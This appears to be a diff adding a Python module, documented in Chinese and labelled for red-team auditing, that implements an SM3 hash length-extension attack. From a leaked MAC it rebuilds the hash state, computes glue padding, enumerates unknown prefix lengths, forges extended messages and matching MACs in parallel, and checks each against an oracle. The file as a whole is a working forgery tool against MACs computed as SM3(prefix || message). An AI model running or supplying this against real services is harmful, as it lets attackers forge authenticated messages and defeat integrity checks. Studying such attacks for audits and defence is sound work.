@@ -0,0 +1,92 @@
+"""
+SM3 长度扩展攻击：批量枚举未知前缀长度的伪造引擎（红队审计用）。
+
+服务器计算 MAC = SM3(prefix || message)，prefix 可能是密钥，也可能是
+“密钥 + 分隔符 + 头部”等未知格式；对攻击而言只有 prefix 的总长度 L 重要，
+因此枚举 L 的一个范围即可覆盖各种未知前缀格式。
+
+对候选 L：
+  伪造消息 = message || glue(L + len(message)) || extra
+  伪造 MAC = 从泄露的 MAC 状态继续压缩 extra 及最终填充
+续接部分只取决于“前缀+消息+glue”填充后的长度 P（64 的倍数），
+所以 P 相同的候选共享同一组续接块与同一个伪造 MAC：每个 P 只压缩一次。
+不同的 P 分组可分发到进程池，并在工作进程内用本地验证器（oracle）逐个校验。
+"""
+
+from __future__ import annotations
+import binascii
+import multiprocessing
+import struct
+from typing import Callable, Dict, Iterable, List, Optional, Tuple
+from .sm3_opt import SM3, _final_blocks
+
+Candidate = Tuple[int, bytes, str]
+
+def digest_to_state(digest: bytes) -> Tuple[int, ...]:
+    """把 32 字节摘要还原为压缩函数的链值（8 个 32-bit 字）"""
+    return struct.unpack(">8I", digest)
+
+def glue_padding(byte_len: int) -> bytes:
+    """长度为 byte_len 的消息的 SM3 填充（即伪造消息中夹在原消息与 extra 之间的部分）"""
+    return _final_blocks(b"", byte_len)
+
+def _padded_len(prefix_len: int, msg_len: int) -> int:
+    return prefix_len + msg_len + len(glue_padding(prefix_len + msg_len))
+
+def group_by_padding(msg_len: int, prefix_lens: Iterable[int]) -> Dict[int, List[int]]:
+    """按填充后长度 P 对候选前缀长度分组：同组候选共享续接块与伪造 MAC"""
+    groups: Dict[int, List[int]] = {}
+    for L in prefix_lens:
+        groups.setdefault(_padded_len(L, msg_len), []).append(L)
+    return groups
+
+def extend_mac(state: Tuple[int, ...], padded_len: int, extra: bytes) -> bytes:
+    """从链值 state（已处理 padded_len 字节）继续压缩 extra 与最终填充，返回伪造的 MAC"""
+    h = SM3.from_state(state, padded_len)
+    h.update(extra)
+    return h.digest()
+
+def _forge_group(task) -> List[Tuple[int, bytes, str, Optional[bool]]]:
+    """
+    处理一个 P 分组：压缩一次续接块，再为组内每个前缀长度拼出伪造消息；
+    若给出 oracle，则在本进程内逐个校验。
+    """
+    message, state, extra, padded_len, prefix_lens, oracle = task
+    mac_hex = extend_mac(state, padded_len, extra).hex()
+    out = []
+    for L in prefix_lens:
+        forged = message + glue_padding(L + len(message)) + extra
+        ok = oracle(forged, mac_hex) if oracle is not None else None
+        out.append((L, forged, mac_hex, ok))
+    return out
+
+def forge_candidates(message: bytes, mac_hex: str, extra: bytes,
+                     prefix_lens: Iterable[int], oracle: Optional[Callable[[bytes, str], bool]] = None,
+                     workers: int = 1) -> List[Tuple[int, bytes, str, Optional[bool]]]:
+    """
+    为一组候选前缀长度生成伪造结果，按前缀长度升序返回
+    (前缀长度, 伪造消息, 伪造 MAC 十六进制, oracle 结果或 None)。
+    workers > 1 时按 P 分组分发到进程池；oracle 需可被 pickle（模块级函数或 functools.partial）。
+    """
+    state = digest_to_state(binascii.unhexlify(mac_hex))
+    groups = group_by_padding(len(message), prefix_lens)
+    if workers > 1:
+        # 大组再切成小块，让进程池负载均衡（每块各自压缩一次续接块，代价很小）
+        total = sum(len(Ls) for Ls in groups.values())
+        step = max(1, -(-total // (workers * 4)))
+        tasks = [(message, state, extra, P, Ls[i:i + step], oracle)
+                 for P, Ls in groups.items() for i in range(0, len(Ls), step)]
+    else:
+        tasks = [(message, state, extra, P, Ls, oracle) for P, Ls in groups.items()]
+    if workers > 1 and len(tasks) > 1:
+        with multiprocessing.Pool(workers) as pool:
+            parts = pool.map(_forge_group, tasks)
+    else:
+        parts = [_forge_group(t) for t in tasks]
+    return sorted((r for part in parts for r in part), key=lambda r: r[0])
+
+def search_prefix_length(message: bytes, mac_hex: str, extra: bytes, prefix_lens: Iterable[int],
+                         oracle: Callable[[bytes, str], bool], workers: int = 1) -> List[Candidate]:
+    """枚举前缀长度并用 oracle 校验，返回所有被接受的 (前缀长度, 伪造消息, 伪造 MAC)"""
+    return [(L, forged, mac) for L, forged, mac, ok in
+            forge_candidates(message, mac_hex, extra, prefix_lens, oracle, workers) if ok]